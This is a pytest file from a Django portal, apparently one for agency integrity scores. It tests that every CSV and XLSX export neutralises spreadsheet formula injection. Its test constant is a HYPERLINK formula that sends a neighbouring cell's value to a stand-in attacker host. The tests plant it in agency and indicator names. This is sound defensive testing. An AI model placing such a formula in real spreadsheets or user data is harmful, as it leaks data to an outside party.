"""No CSV or XLSX the portal writes carries a live formula (OWASP CSV injection; issue 18, item 4).

One test per export: the score table, the trend, the area table, both import templates in both
formats, and the catalogue export. Hostile text comes from the places users type it (agency and
indicator names)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from indicators.catalogue.files import framework_data_from_rows, framework_export_csv, framework_export_xlsx
from indicators.exports import csv_bytes, xlsx_bytes
from ita_portal.spreadsheets import FORMULA_STARTS, unquote_cell, xlsx_append
from tests.factories import AgencyFactory, make_framework
from tests.factories_scores import SEED_001_2565, save_scores

HOSTILE = '=HYPERLINK("https://evil.example/?d="&C2,"ดูคะแนน")'


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_csv_safe(content: bytes, hostile: str = HOSTILE) -> None:
    cells = csv_cells(content)
    assert "'" + hostile in cells  # shown as text, the text itself kept
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def assert_xlsx_safe(content: bytes, hostile: str = HOSTILE) -> None:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # not data_only: formulas would show as such
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hits = [c for c in cells if c.value == hostile]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)


@pytest.fixture
def hostile_scores(world):
    framework = make_framework(2565)
    framework.indicators.filter(number=10).update(name=HOSTILE)
    save_scores(world.agency_a, framework, SEED_001_2565, {"O1": True})
    return framework


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_score_table_export(world, hostile_scores, fmt):
    url = reverse("indicators:dashboard_export", kwargs={"agency_id": world.agency_a.pk, "year": 2565, "fmt": fmt})
    response = world.client_for("staff_a").get(url)
    assert response.status_code == 200
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_trend_export(world, hostile_scores, fmt):
    url = reverse("indicators:trend_export", kwargs={"agency_id": world.agency_a.pk, "year": 2565, "fmt": fmt})
    response = world.client_for("staff_a").get(url)
    assert response.status_code == 200
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_area_export(world, hostile_scores, fmt):
    AgencyFactory(name=HOSTILE, short_name="ร้าย", code="A0666", parent=world.supervising)
    url = reverse("area:area_export", kwargs={"agency_id": world.supervising.pk, "year": 2565, "fmt": fmt})
    response = world.client_for("supervisor").get(url)
    assert response.status_code == 200
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(response.content)


@pytest.mark.parametrize("layout", ["long", "wide"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_templates(world, hostile_scores, layout, fmt):
    world.agency_a.name = HOSTILE
    world.agency_a.save()
    url = reverse(
        "indicators:import_template", kwargs={"agency_id": world.agency_a.pk, "year": 2565, "layout": layout, "fmt": fmt}
    )
    response = world.client_for("staff_a").get(url)
    assert response.status_code == 200
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalogue_export_and_its_round_trip(hostile_scores, tmp_path, fmt):
    target = tmp_path / f"f.{fmt}"
    call_command(
        "export_framework", "2565", hostile_scores.assessor.code, "--format", fmt, "-o", str(target), stdout=io.StringIO()
    )
    content = target.read_bytes()
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(content)
    exported = framework_export_csv(framework=hostile_scores) if fmt == "csv" else framework_export_xlsx(framework=hostile_scores)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    else:
        rows = [list(r) for r in load_workbook(io.BytesIO(exported)).worksheets[0].iter_rows(values_only=True)]
    data = framework_data_from_rows(rows)
    assert next(i for i in data["indicators"] if i["number"] == 10)["name"] == HOSTILE  # read back as typed


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
    text = f"{start}1+1"
    assert csv_cells(csv_bytes(["h"], [[text, -5]]))[1:] == ["'" + text, "-5"]
    assert unquote_cell("'" + text) == text and unquote_cell("'ข้อความ") == "'ข้อความ"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h"], [[text, -5]]))).worksheets[0]
    cell, number = sheet["A2"], sheet["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert number.value == -5 and number.data_type == "n"


def test_xlsx_append_keeps_other_cells_as_they_are():
    sheet = Workbook().active
    xlsx_append(sheet, ["ข้อความ", 12, None, "@x"])
    assert [c.value for c in sheet[1]] == ["ข้อความ", 12, None, "@x"]
